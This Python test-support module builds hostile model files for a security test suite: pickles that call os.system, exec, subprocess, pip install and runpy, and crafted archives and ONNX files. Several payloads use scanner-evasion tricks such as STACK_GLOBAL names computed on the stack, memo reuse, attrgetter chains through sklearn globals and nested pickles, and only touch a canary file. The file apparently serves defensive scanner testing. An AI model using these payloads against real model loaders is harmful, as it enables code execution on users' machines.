"""Hostile model files for tests/security/test_hostile_models.py, built byte by byte where pickle.dumps cannot.

Every payload that would run something tries to create `canary` (a path in the test's tmp dir): if the file
exists after an import, the upload's code ran outside the sandbox.
"""

from __future__ import annotations

import io
import os
import pickle
import tarfile
import zipfile


class Call:
    """Unpickling this calls `function(*args)`: how every malicious model file works."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


def touch(canary) -> str:
    return f"touch {canary}"


def _short(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE


def _args(*args) -> bytes:
    """A pickled tuple of plain arguments, without its protocol header and STOP."""
    return pickle.dumps(args, protocol=2)[2:-1]


def call_global(module: str, name: str, *args) -> bytes:
    """GLOBAL module.name applied to args (protocol 2); the module need not be importable here."""
    return b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n" + _args(*args) + b"R."


def stack_global_built_on_the_stack(canary) -> bytes:
    """STACK_GLOBAL whose module name is computed by an allowed callable: str(b"os", "latin1")."""
    return (b"\x80\x04" + _short("builtins") + _short("str") + b"\x93" + b"C\x02os" + _short("latin1") + b"\x86R"
            + _short("system") + b"\x93" + _short(touch(canary)) + b"\x85R.")


def memo_reuse(canary) -> bytes:
    """A dangerous global memoized under a harmless first use, popped, and fetched back by BINGET to be called."""
    return (b"\x80\x04" + _short("posix") + _short("system") + b"\x93\x94" + b"0"  # MEMOIZE as memo 0, POP
            + b"N0" + b"h\x00" + _short(touch(canary)) + b"\x85R.")


def attrgetter_chain(canary) -> bytes:
    """Only sklearn and operator globals: BaseEstimator.get_params.__globals__["inspect"].os.system(...)."""
    return (b"\x80\x04"
            + _short("operator") + _short("attrgetter") + b"\x93" + _short("os.system") + b"\x85R"
            + _short("operator") + _short("itemgetter") + b"\x93" + _short("inspect") + b"\x85R"
            + _short("operator") + _short("attrgetter") + b"\x93" + _short("get_params.__globals__") + b"\x85R"
            + _short("sklearn.base") + _short("BaseEstimator") + b"\x93" + b"\x85R"  # the globals dict
            + b"\x85R"  # the inspect module
            + b"\x85R"  # os.system
            + _short(touch(canary)) + b"\x85R.")


def nested_pickle(canary) -> bytes:
    """pickle.loads of an inner pickle's bytes: the scanner sees only the outer stream."""
    inner = pickle.dumps(Call(os.system, touch(canary)))
    return call_global("_pickle", "loads", inner)


def numpy_object_array(canary) -> bytes:
    import numpy as np

    array = np.empty(2, dtype=object)
    array[0] = 1
    array[1] = Call(os.system, touch(canary))
    return pickle.dumps(array, protocol=2)


PICKLES = {
    # id: (builder(canary) -> bytes, the global the message must name)
    "os-system": (lambda c: pickle.dumps(Call(os.system, touch(c))), "posix.system"),
    "builtins-exec": (lambda c: call_global("builtins", "exec", f"open({str(c)!r}, 'w').close()"), "builtins.exec"),
    "subprocess": (lambda c: call_global("subprocess", "call", ["touch", str(c)]), "subprocess.call"),
    "stack-global-built-on-stack": (stack_global_built_on_the_stack, "<a STACK_GLOBAL"),
    "memo-binget": (memo_reuse, "posix.system"),
    "importlib": (lambda c: call_global("importlib", "import_module", "antigravity"), "importlib.import_module"),
    "pip-main": (lambda c: call_global("pip", "main", ["install", "evil"]), "pip.main"),
    "pip-internal": (lambda c: call_global("pip._internal.cli.main", "main", ["install", "evil"]),
                     "pip._internal.cli.main.main"),
    "runpy": (lambda c: call_global("runpy", "run_path", str(c)), "runpy.run_path"),
    "operator-attrgetter": (attrgetter_chain, "operator.attrgetter"),
    "builtins-getattr": (lambda c: call_global("builtins", "getattr", 1, "real"), "builtins.getattr"),
    "nested-pickle": (nested_pickle, "_pickle.loads"),
    "numpy-object-array": (numpy_object_array, "posix.system"),
}


# --- Archives --------------------------------------------------------------------------------------------------

MLMODEL_SKOPS = b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"


def zip_with(entries: list[tuple[str, bytes, int | None]], *, compression=zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data, mode in entries:
            info = zipfile.ZipInfo(name)
            info.compress_type = compression
            if mode is not None:
                info.external_attr = mode << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def tar_with(entries: list[tuple[str, bytes | None, str]], *, mode: str = "w") -> bytes:
    """A tar holding regular files, or symlinks/hardlinks (data None, kind "sym"/"hard" and the link target)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for name, data, kind in entries:
            info = tarfile.TarInfo(name)
            if kind.startswith(("sym:", "hard:")):
                info.type = tarfile.SYMTYPE if kind.startswith("sym:") else tarfile.LNKTYPE
                info.linkname = kind.split(":", 1)[1]
                archive.addfile(info)
            else:
                info.size = len(data or b"")
                archive.addfile(info, io.BytesIO(data or b""))
    return buffer.getvalue()


def onnx_with_external_data(location: str, *, where: str = "initializer") -> bytes:
    """A tiny MatMul graph whose weights claim to live in an external file at `location`."""
    from onnx import TensorProto, helper

    weights = helper.make_tensor("W", TensorProto.FLOAT, [3, 1], [0.1, 0.2, 0.3])
    weights.data_location = TensorProto.EXTERNAL
    del weights.float_data[:]
    weights.external_data.add(key="location", value=location)
    weights.external_data.add(key="length", value="12")
    if where == "initializer":
        nodes, initializers = [helper.make_node("MatMul", ["X", "W"], ["Y"])], [weights]
    else:  # hidden in a Constant node's attribute, where a check of the initializers alone does not look
        nodes = [helper.make_node("Constant", [], ["W"], value=weights), helper.make_node("MatMul", ["X", "W"], ["Y"])]
        initializers = []
    graph = helper.make_graph(
        nodes, "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 3])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None, 1])], initializers,
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model.SerializeToString()
